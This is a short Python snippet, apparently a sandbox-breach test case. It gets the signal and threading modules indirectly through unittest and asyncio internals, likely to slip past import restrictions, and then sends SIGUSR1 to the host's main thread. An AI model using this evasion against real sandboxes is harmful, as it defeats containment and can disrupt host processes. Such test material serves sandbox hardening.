# signal.pthread_kill of a thread of the host.
# breach: setting
import asyncio, unittest
signal = unittest.signals.signal
threading = asyncio.base_events.threading
signal.pthread_kill(threading.main_thread().ident, signal.SIGUSR1)
